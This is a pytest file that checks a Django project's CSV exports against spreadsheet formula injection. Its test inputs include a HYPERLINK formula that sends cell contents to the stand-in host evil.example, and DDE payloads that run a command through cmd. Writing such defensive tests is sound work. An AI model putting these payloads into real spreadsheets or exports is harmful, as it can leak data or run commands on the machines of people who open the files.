"""Every CSV written for people to open in a spreadsheet has no cell a spreadsheet would run as a formula
(OWASP's CSV injection rule: `=`, `+`, `-`, `@`, tab, carriage return), and our own files read back give
the text that was written. The batch report is tested with the archive (tests/archive/test_csv_reports.py)."""

import csv
import io

import pytest
from django.core.management import call_command

from procedures.models import Procedure
from translations import glossary_files
from translations.models import GlossaryTerm
from uploads.spreadsheets import (
    FORMULA_STARTS,
    SpreadsheetDictWriter,
    neutralised,
    restored,
    spreadsheet_writer,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1",
    "\tx",
    "\rx",
]


def no_formula(text):
    """Every cell of the CSV `text`, asserted safe."""
    cells = [cell for row in csv.reader(io.StringIO(text.lstrip("\ufeff"))) for cell in row]
    assert cells
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    return cells


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_like_a_formula_is_shown_as_text_and_read_back_as_written(value):
    assert neutralised(value) == "'" + value
    assert restored(neutralised(value)) == value


def test_ordinary_cells_and_numbers_are_left_as_they_are():
    assert [neutralised(v) for v in ("Ndayishimiye", "l'acte", -2, 3.5, None)] == [
        "Ndayishimiye",
        "l'acte",
        -2,
        3.5,
        None,
    ]
    assert restored("'tis") == "'tis"


def test_both_writers_neutralise_every_cell():
    out = io.StringIO()
    spreadsheet_writer(out).writerows([HOSTILE])
    writer = SpreadsheetDictWriter(out, fieldnames=["a", "b"])
    writer.writerows([{"a": "=1", "b": "@2"}])
    assert no_formula(out.getvalue())[-2:] == ["'=1", "'@2"]


def test_the_open_data_tables_have_no_formula(settings, tmp_path, passport):
    settings.OPEN_DATA_ROOT = tmp_path / "open-data"
    Procedure.objects.filter(pk=passport.pk).update(title_en=HOSTILE[0], summary_en=HOSTILE[2])
    call_command("dump_open_data", stdout=io.StringIO())
    cells = no_formula((settings.OPEN_DATA_ROOT / "procedures_procedure.csv").read_text())
    assert "'" + HOSTILE[0] in cells


@pytest.mark.django_db
def test_the_glossary_csv_has_no_formula_and_comes_back_as_it_was():
    GlossaryTerm.objects.create(term_fr="-ka (suffixe)", term_rn="=1+1", definition_en="@home")
    body = glossary_files.write_csv()
    no_formula(body.decode())
    (row,) = glossary_files.read(body)
    assert (row["term_fr"], row["term_rn"], row["definition_en"]) == ("-ka (suffixe)", "=1+1", "@home")
